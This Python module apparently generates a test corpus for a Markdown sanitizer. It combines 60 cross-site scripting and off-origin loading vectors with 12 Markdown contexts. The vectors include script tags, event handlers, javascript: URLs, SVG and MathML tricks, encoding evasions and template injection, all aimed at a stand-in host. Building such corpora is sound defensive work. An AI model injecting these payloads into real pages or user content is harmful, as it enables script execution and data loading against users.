"""Five hundred texts that want to run a script or to load something, made of 60 attacks and the
Markdown that they may stand in."""

from __future__ import annotations

from itertools import product

RUN = "window.pwned=1"
FAR = "http://off-origin.invalid/a"

ATTACKS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={FAR}.js></sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"<img/src={FAR}.png>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><use href={FAR}.svg#a></use></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe src={FAR}></iframe></foreignObject></svg>",
    f"<math href=javascript:{RUN}><mi>x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe src={FAR}></iframe>",
    f"<iframe srcdoc='<script>top.{RUN[7:]}</script>'></iframe>",
    f"<object data={FAR}.swf></object>",
    f"<embed src=javascript:{RUN}>",
    f"<link rel=stylesheet href={FAR}.css>",
    f"<link rel=prefetch href={FAR}>",
    f"<style>@import '{FAR}.css';</style>",
    f"<style>*{{background:url({FAR}.png)}}</style>",
    f"<div style='background:url({FAR}.png)'>x</div>",
    f"<base href={FAR}/>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<video poster={FAR}.png>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<table background={FAR}.png>",
    f"<marquee onstart={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a ping={FAR} href={FAR}>x</a>",
    f"<x onclick={RUN} tabindex=1 autofocus onfocus={RUN}>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"</textarea></title><img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"' onfocus='{RUN}' autofocus='",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"\u02c2img src=x onerror={RUN}\u02c3",
    f"＜script＞{RUN}＜/script＞",
    f"\u202e<script>{RUN}</script>\u202c",
    f"javascript:{RUN}",
    f"JaVa\tScRiPt:{RUN}",
    f"java&#x09;script:{RUN}",
    f"\x01javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"blob:{FAR}",
    f"//{FAR[7:]}",
    f"<javascript:{RUN}>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"\\href{{javascript:{RUN}}}{{x}}\\class{{a}}{{\\text{{<img src=x onerror={RUN}>}}}}",
)

PLACES = (
    "{}",
    "**{}**",
    "- {}",
    "# {}",
    "| a |\n|---|\n| {} |",
    "[x]({})",
    "![x]({})",
    "[{}](https://a.example/?b)",
    "${}$",
    "`{}`",
    "> {}",
    '[x](https://a.example "{}")',
)

PAYLOADS = tuple(place.format(attack) for place, attack in product(PLACES, ATTACKS))[:500]


def pieces(most: int) -> list[str]:
    """All of them, as many in a text as have room in `most` characters."""
    found = [""]
    for payload in PAYLOADS:
        if len(found[-1]) + len(payload) >= most:
            found.append("")
        found[-1] += payload[:most] + " "
    return [piece.strip() for piece in found]
